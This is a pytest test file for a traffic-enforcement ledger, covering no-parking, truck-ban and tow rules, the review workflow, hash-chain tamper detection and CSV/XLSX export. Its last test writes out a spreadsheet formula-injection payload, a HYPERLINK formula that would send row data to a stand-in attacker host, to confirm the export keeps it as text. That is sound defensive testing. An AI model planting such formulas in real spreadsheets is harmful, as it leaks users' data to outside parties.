"""The ledger: each rule at its boundaries, the review workflow, the hash chain, export."""

from __future__ import annotations

import csv
import io
import itertools
import json
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy import Engine, func, select, text

from central.captures.service import intake
from central.db import schema as t
from central.errors import Conflict, Invalid
from central.evidence.store import DiskPictureStore
from central.ledger import chain, service
from firmware_protocols.cameras import CaptureKind, PlateColor
from firmware_protocols.cameras import VehicleClass as VC
from site_model.site import Site
from tests.central.ledger_helpers import T0, capture

MIN = 60.0


@pytest.fixture
def store(tmp_path: Path) -> DiskPictureStore:
    return DiskPictureStore(tmp_path / "pictures")


def _feed(engine: Engine, store: DiskPictureStore, site: Site, camera: str, *caps) -> list[dict]:
    """Each capture received a minute after it was taken (a camera with a right clock)."""
    return [
        intake(
            engine,
            store,
            site,
            camera_id=camera,
            capture=c,
            now=c.captured_at.timestamp() + 60,
        )
        for c in caps
    ]


def _violations(engine: Engine, rule_id: str) -> list[dict]:
    return service.list_entries(engine, rule_id=rule_id)


# --- no parking -----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("minutes", "found"),
    [
        pytest.param([0, 2.5, 5], 1, id="K-captures-over-T"),
        pytest.param([0, 5], 0, id="K-1-captures"),
        pytest.param([0, 2.5, 5 - 1 / 60], 0, id="T-minus-one-second"),
        pytest.param([0, 1, 2, 3, 4, 4.99], 0, id="many-captures-short-of-T"),
    ],
)
def test_ledger_no_parking_boundaries(
    engine: Engine, store: DiskPictureStore, site: Site, minutes: list[float], found: int
) -> None:
    """K=3 captures spanning T=5 min on a capture segment make one violation; less makes none."""
    _feed(engine, store, site, "C1", *(capture(m * MIN) for m in minutes))
    found_entries = _violations(engine, "no_parking")
    assert len(found_entries) == found
    if found:
        entry = found_entries[0]
        assert entry["fine_cny"] == 100 and entry["status"] == "pending_review"
        assert entry["rule_version"] == 1 and entry["place"] == "segment:R1"
        assert entry["grid_id"] == "G1" and len(entry["evidence"]["captures"]) == 3
        assert entry["evidence"]["pictures"][0]["url"].startswith("/api/v1/pictures/")


def test_ledger_no_parking_departure_in_between(
    engine: Engine, store: DiskPictureStore, site: Site
) -> None:
    """A departure seen between the captures starts the count again."""
    _feed(
        engine,
        store,
        site,
        "C1",
        capture(0),
        capture(2 * MIN),
        capture(3 * MIN, kind=CaptureKind.DEPARTURE),
        capture(6 * MIN),
    )
    assert _violations(engine, "no_parking") == []


def test_ledger_no_parking_needs_a_picture(
    engine: Engine, store: DiskPictureStore, site: Site
) -> None:
    """Without one picture with a readable plate there is no violation; with one there is."""
    _feed(engine, store, site, "C1", *(capture(m * MIN, picture=False) for m in (0, 3, 6)))
    assert _violations(engine, "no_parking") == []
    _feed(engine, store, site, "C1", capture(7 * MIN))
    assert len(_violations(engine, "no_parking")) == 1


def test_ledger_no_parking_one_stay_one_violation(
    engine: Engine, store: DiskPictureStore, site: Site
) -> None:
    """More captures of the same stay add no second violation; repeats are stored once."""
    first = capture(0, event_id="same-event")
    results = _feed(
        engine,
        store,
        site,
        "C1",
        first,
        first,
        capture(3 * MIN),
        capture(6 * MIN),
        capture(9 * MIN),
    )
    assert results[1]["duplicate"] is True and results[1]["capture_id"] == results[0]["capture_id"]
    with engine.connect() as conn:
        assert conn.execute(select(func.count()).select_from(t.captures)).scalar() == 4
    assert len(_violations(engine, "no_parking")) == 1


def test_ledger_no_parking_does_not_apply_in_a_lot(
    engine: Engine, store: DiskPictureStore, site: Site
) -> None:
    """Captures in a car park are not no-parking violations."""
    _feed(engine, store, site, "C3", *(capture(m * MIN, lot_id="P1") for m in (0, 3, 6)))
    assert _violations(engine, "no_parking") == []


# --- truck ban ------------------------------------------------------------------------------


def _truck(seconds: float, plate: str = "苏C12345", **kw) -> object:
    return capture(seconds, plate=plate, colour=PlateColor.YELLOW, vclass=VC.TRUCK, **kw)


def test_ledger_truck_ban_fines_a_big_truck_once_a_day(
    engine: Engine, store: DiskPictureStore, site: Site
) -> None:
    """A yellow-plate truck in the ban area: 200 CNY and 3 points, once per plate and day."""
    _feed(engine, store, site, "C2", _truck(0, "苏C99999"), _truck(600, "苏C99999"))
    found = _violations(engine, "truck_ban")
    assert len(found) == 1 and found[0]["fine_cny"] == 200 and found[0]["points"] == 3


@pytest.mark.parametrize(
    ("offset_s", "fined"),
    [
        pytest.param(-61, False, id="permit-valid-a-minute-before-it-ends"),
        pytest.param(60, True, id="permit-expired-a-minute-ago"),
        pytest.param(0, True, id="permit-end-is-exclusive"),
    ],
)
def test_ledger_truck_ban_permit_boundaries(
    engine: Engine, store: DiskPictureStore, site: Site, offset_s: float, fined: bool
) -> None:
    """The site's permit for 苏C12345 ends 16:00 local (08:00 UTC): after that, a fine."""
    _feed(engine, store, site, "C1", _truck(offset_s))
    assert len(_violations(engine, "truck_ban")) == (1 if fined else 0)


def test_ledger_truck_ban_needs_yellow_plate_and_truck_class(
    engine: Engine, store: DiskPictureStore, site: Site
) -> None:
    """A blue-plate truck or a yellow-plate bus is not a big truck."""
    _feed(
        engine,
        store,
        site,
        "C1",
        capture(0, plate="苏C22222", colour=PlateColor.BLUE, vclass=VC.TRUCK),
        capture(0, plate="苏C33333", colour=PlateColor.YELLOW, vclass=VC.BUS),
    )
    assert _violations(engine, "truck_ban") == []


def test_ledger_permit_issued_through_the_store(
    engine: Engine, store: DiskPictureStore, site: Site
) -> None:
    """A permit row valid at the capture time exempts; a revoked one does not."""
    with engine.begin() as conn:
        for plate, revoked in (("苏C44444", None), ("苏C55555", 1.0)):
            conn.execute(
                t.permits.insert().values(
                    plate=plate,
                    area="truck_ban",
                    valid_from=T0.timestamp() - 60,
                    valid_until=T0.timestamp() + 60,
                    reason="test",
                    issued_by="test",
                    issued_at=0.0,
                    revoked_at=revoked,
                )
            )
    results = _feed(engine, store, site, "C1", _truck(0, "苏C44444"), _truck(0, "苏C55555"))
    assert results[0]["outcomes"][0]["outcome"] == "permit"
    assert [e["plate"] for e in _violations(engine, "truck_ban")] == ["苏C55555"]


@pytest.mark.parametrize(
    ("plate", "colour", "vclass", "why"),
    [
        pytest.param("苏A00001", PlateColor.BLUE, VC.CAR, "listed", id="listed"),
        pytest.param("苏A1234警", PlateColor.WHITE, VC.CAR, "police", id="police"),
        pytest.param("苏C77777", PlateColor.YELLOW, VC.FIRE, "fire", id="fire-engine"),
    ],
)
def test_ledger_exempt_vehicles(
    engine: Engine,
    store: DiskPictureStore,
    site: Site,
    plate: str,
    colour: PlateColor,
    vclass: VC,
    why: str,
) -> None:
    """Exempt vehicles make no entry, and the intake says why."""
    results = _feed(
        engine,
        store,
        site,
        "C1",
        *(capture(m * MIN, plate=plate, colour=colour, vclass=vclass) for m in (0, 3, 6)),
    )
    assert results[-1]["outcomes"][0]["outcome"] == "exempt"
    assert why in results[-1]["outcomes"][0]["reason"]
    assert service.list_entries(engine) == []


# --- left for days --------------------------------------------------------------------------


def test_ledger_left_for_days_from_captures(
    engine: Engine, store: DiskPictureStore, site: Site
) -> None:
    """The same plate in the same lot on two local days with no departure: a tow order and a
    case for the lot's grid; with a departure in between, nothing."""
    day = 24 * 3600.0
    _feed(
        engine,
        store,
        site,
        "C3",
        capture(0, plate="苏B11111", lot_id="P1"),
        capture(day - 3600, plate="苏B11111", lot_id="P1"),
    )
    tows = service.list_entries(engine, kind="tow")
    assert len(tows) == 1 and tows[0]["status"] == "ordered" and tows[0]["grid_id"] == "G1"
    with engine.connect() as conn:
        case = conn.execute(select(t.cases)).one()
    assert case.kind == "tow" and case.grid_id == "G1" and case.ledger_seq == tows[0]["seq"]
    _feed(
        engine,
        store,
        site,
        "C3",
        capture(0, plate="苏B22222", lot_id="P2"),
        capture(3600, plate="苏B22222", lot_id="P2", kind=CaptureKind.DEPARTURE),
        capture(day - 3600, plate="苏B22222", lot_id="P2"),
    )
    assert len(service.list_entries(engine, kind="tow")) == 1


@pytest.mark.parametrize(("hours", "towed"), [(47.9, False), (48.0, True)])
def test_ledger_left_for_days_from_bay_dwell(
    engine: Engine, site: Site, hours: float, towed: bool
) -> None:
    """A bay occupied for 48 h (the default) gives a tow order once; 47.9 h gives none."""
    now = T0.timestamp()
    with engine.begin() as conn:
        conn.execute(
            t.bays.update()
            .where(t.bays.c.bay_id == "P2-A")
            .values(state="occupied", since=now - hours * 3600)
        )
    service.sweep_bays(engine, site, now=now)
    service.sweep_bays(engine, site, now=now + 60)
    tows = service.list_entries(engine, kind="tow")
    assert len(tows) == (1 if towed else 0)
    if towed:
        assert tows[0]["place"] == "lot:P2" and tows[0]["grid_id"] == "G2"
        assert tows[0]["evidence"]["bay_id"] == "P2-A"


# --- workflow and chain ---------------------------------------------------------------------


def _one_violation(engine: Engine, store: DiskPictureStore, site: Site) -> int:
    _feed(engine, store, site, "C1", *(capture(m * MIN) for m in (0, 3, 6)))
    return int(_violations(engine, "no_parking")[0]["seq"])


def test_ledger_review_workflow_appends_entries(
    engine: Engine, store: DiskPictureStore, site: Site
) -> None:
    """confirm -> notify -> close add three entries referring to the first, which is unchanged."""
    seq = _one_violation(engine, store, site)
    with engine.connect() as conn:
        before = dict(conn.execute(select(t.ledger).where(t.ledger.c.seq == seq)).one()._mapping)
    for action in ("confirm", "notify", "close"):
        entry = service.act(engine, seq=seq, action=action, reason=None, actor="user:olga")
    assert entry["status"] == "closed" and entry["actions"] == []
    assert [h["status"] for h in entry["history"]] == ["confirmed", "notified", "closed"]
    with engine.connect() as conn:
        after = dict(conn.execute(select(t.ledger).where(t.ledger.c.seq == seq)).one()._mapping)
        refs = conn.execute(select(t.ledger.c.ref_seq).where(t.ledger.c.ref_seq.is_not(None)))
        assert [r for (r,) in refs] == [seq] * 3
    assert before == after
    assert [e["seq"] for e in service.list_entries(engine, status="closed")] == [seq]
    assert service.list_entries(engine, status="pending_review") == []


def test_ledger_void_needs_a_reason_and_unknown_steps_conflict(
    engine: Engine, store: DiskPictureStore, site: Site
) -> None:
    """Void without a reason is refused; a step the table lacks is a conflict."""
    seq = _one_violation(engine, store, site)
    with pytest.raises(Invalid):
        service.act(engine, seq=seq, action="void", reason=" ", actor="user:olga")
    with pytest.raises(Conflict):
        service.act(engine, seq=seq, action="close", reason=None, actor="user:olga")
    entry = service.act(
        engine, seq=seq, action="void", reason="hearse at a funeral", actor="user:olga"
    )
    assert entry["status"] == "voided" and entry["history"][0]["reason"] == "hearse at a funeral"
    assert entry["history"][0]["actor"] == "user:olga"


def test_ledger_chain_verifies_and_names_the_altered_entry(
    engine: Engine, store: DiskPictureStore, site: Site
) -> None:
    """The chain verifies (SQLite and PostgreSQL); altering any stored field names that entry."""
    seq = _one_violation(engine, store, site)
    service.act(engine, seq=seq, action="confirm", reason=None, actor="user:olga")
    _feed(engine, store, site, "C2", _truck(0, "苏C99999"))
    result = chain.verify(engine)
    assert result.ok and result.entries == 3
    with engine.connect() as conn:
        rows = [dict(r._mapping) for r in conn.execute(select(t.ledger).order_by(t.ledger.c.seq))]
    assert rows[0]["prev_hash"] == chain.GENESIS
    assert all(b["prev_hash"] == a["hash"] for a, b in itertools.pairwise(rows))
    changes = {
        "at": 1.0,
        "kind": "tow",
        "rule_id": "x",
        "rule_version": 9,
        "plate": "苏A00000",
        "plate_color": "green",
        "place": "segment:R9",
        "grid_id": "G2",
        "evidence": '{"x":1}',
        "fine_cny": 1,
        "points": 9,
        "status": "closed",
        "reason": "x",
        "actor": "mallory",
        "dedup_key": "x",
        "vehicle_class": "bus",
        "ga_plate_type": "16",
        "prev_hash": "f" * 64,
        "ref_seq": 99,
    }
    for column, value in changes.items():
        target = rows[1]
        with engine.begin() as conn:
            conn.execute(
                t.ledger.update().where(t.ledger.c.seq == target["seq"]).values({column: value})
            )
        broken = chain.verify(engine)
        assert not broken.ok and broken.bad_seq == target["seq"], column
        with engine.begin() as conn:
            conn.execute(
                t.ledger.update()
                .where(t.ledger.c.seq == target["seq"])
                .values({column: target[column]})
            )
        assert chain.verify(engine).ok, column
    with engine.begin() as conn:  # a deleted entry is named too
        conn.execute(t.ledger.delete().where(t.ledger.c.seq == 2))
    missing = chain.verify(engine)
    assert not missing.ok and missing.bad_seq == 2 and "missing" in (missing.reason or "")


def test_ledger_canonical_encoding_is_stable() -> None:
    """The canonical bytes are sorted compact UTF-8 JSON with ``at`` in milliseconds."""
    entry = {name: None for name in chain.FIELDS} | {
        "seq": 1,
        "at": 1740816000.1234,
        "plate": "苏A8HK52",
        "prev_hash": "0" * 64,
    }
    data = chain.canonical(entry)
    assert data.startswith(b'{"actor":null,"at":1740816000123,')
    assert "苏A8HK52".encode() in data and b" " not in data
    assert json.loads(data)["seq"] == 1


def test_ledger_export_csv_and_xlsx(engine: Engine, store: DiskPictureStore, site: Site) -> None:
    """A period's export lists every entry with its hash and picture hashes."""
    seq = _one_violation(engine, store, site)
    service.act(
        engine, seq=seq, action="confirm", reason=None, actor="user:olga", now=T0.timestamp() + 7200
    )
    start, end = T0.timestamp(), T0.timestamp() + 86400
    rows = list(
        csv.reader(
            io.StringIO(service.export_csv(engine, start=start, end=end).decode("utf-8-sig"))
        )
    )
    assert rows[0][-2:] == ["hash", "picture_hashes"] and len(rows) == 3
    assert len(rows[1][-1]) == 64 and rows[2][rows[0].index("status")] == "confirmed"
    book = load_workbook(io.BytesIO(service.export_xlsx(engine, start=start, end=end)))
    sheet = book["ledger"]
    assert sheet.max_row == 3 and sheet.cell(2, len(rows[0]) - 1).value == rows[1][-2]


def test_ledger_concurrent_appends_keep_one_chain(engine: Engine, site: Site) -> None:
    """Appends from several threads give contiguous seqs and a chain that verifies."""
    import threading

    def worker(n: int) -> None:
        for i in range(5):
            service.retrying(
                engine,
                lambda conn, i=i: chain.append(
                    conn,
                    at=T0.timestamp(),
                    kind="violation",
                    evidence="{}",
                    status="pending_review",
                    dedup_key=f"t{n}-{i}",
                ),
            )

    threads = [threading.Thread(target=worker, args=(n,)) for n in range(4)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    result = chain.verify(engine)
    assert result.ok and result.entries == 20
    with engine.connect() as conn:
        assert conn.execute(text("SELECT max(seq) FROM ledger")).scalar() == 20


def test_ledger_xlsx_export_keeps_a_formula_looking_reason_as_text(
    engine: Engine, store: DiskPictureStore, site: Site
) -> None:
    """A void reason typed as a formula is exported as the text it is, never as a formula.

    Excel runs formulas when the office opens the export (=HYPERLINK sends a click, with
    the row's data, elsewhere); the cell keeps the exact text, typed as a string.
    """
    from tests.faults.rig import record

    formula = '=HYPERLINK("http://evil.invalid/?"&A2,"open")'
    seq = _one_violation(engine, store, site)
    service.act(
        engine, seq=seq, action="void", reason=formula, actor="user:olga", now=T0.timestamp() + 60
    )
    start, end = T0.timestamp(), T0.timestamp() + 86400
    sheet = load_workbook(io.BytesIO(service.export_xlsx(engine, start=start, end=end)))["ledger"]
    column = [c.value for c in sheet[1]].index("reason") + 1
    cells = [sheet.cell(row, column) for row in range(2, sheet.max_row + 1)]
    voided = [c for c in cells if c.value == formula]
    assert len(voided) == 1 and voided[0].data_type == "s"
    assert not [c for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    record(
        "hostile",
        "formula injection into the ledger's XLSX export",
        {
            "attack": "a void reason (any operator) written as an Excel formula",
            "tried": 1,
            "refused": 1,
            "notes": "exported as a text cell with the exact reason",
        },
    )
